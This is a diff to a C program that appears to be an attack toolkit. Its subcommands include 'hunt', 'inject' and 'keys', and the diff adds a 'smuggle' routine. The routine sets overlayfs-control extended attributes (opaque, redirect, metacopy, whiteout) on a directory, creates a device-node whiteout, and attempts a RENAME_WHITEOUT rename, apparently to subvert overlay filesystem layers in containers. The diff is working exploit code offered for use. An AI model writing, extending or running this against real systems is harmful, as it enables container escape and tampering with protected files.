@@ -14,6 +14,7 @@
 #include <sys/stat.h>
 #include <sys/syscall.h>
 #include <sys/wait.h>
+#include <sys/xattr.h>
 #include <time.h>
 #include <unistd.h>
 
@@ -242,6 +243,24 @@ static int keys(const char *name, const char *number) {
   return 0;
 }
 
+// Tries to leave what overlayfs obeys in a directory.
+static int smuggle(const char *folder) {
+  const char *names[] = {"opaque", "redirect", "metacopy", "whiteouts", "whiteout", "overlay.opaque", "overlay.overlay.opaque"};
+  const char *prefixes[] = {"user.overlay.", "trusted.overlay.", "user.overlay.overlay."};
+  char path[PATH_MAX], name[128];
+  for (int p = 0; p < 3; p++)
+    for (int n = 0; n < 7; n++) {
+      snprintf(name, sizeof name, "%s%s", prefixes[p], names[n]);
+      setxattr(folder, name, "y", 1, 0);
+    }
+  snprintf(path, sizeof path, "%s/passwd2", folder);
+  if (mknod(path, S_IFCHR | 0666, 0) == 0) printf("WHITEOUT\n");
+  snprintf(name, sizeof name, "%s/passwd", folder);
+  close(open(path, O_CREAT | O_WRONLY, 0600));
+  if (renameat2(AT_FDCWD, path, AT_FDCWD, "/tmp/moved", RENAME_WHITEOUT) == 0) printf("moved\n");
+  return 0;
+}
+
 int main(int argc, char **argv) {
   setvbuf(stdout, 0, _IOLBF, 0);
   if (argc == 3 && strcmp(argv[1], "hunt") == 0) return hunt(argv[2]);
@@ -251,6 +270,7 @@ int main(int argc, char **argv) {
   if (argc == 2 && strcmp(argv[1], "probe") == 0) return probe();
   if (argc == 2 && strcmp(argv[1], "inject") == 0) return inject();
   if (argc == 4 && strcmp(argv[1], "keys") == 0) return keys(argv[2], argv[3]);
+  if (argc == 3 && strcmp(argv[1], "smuggle") == 0) return smuggle(argv[2]);
   fprintf(stderr, "attack: unknown\n");
   return 2;
 }
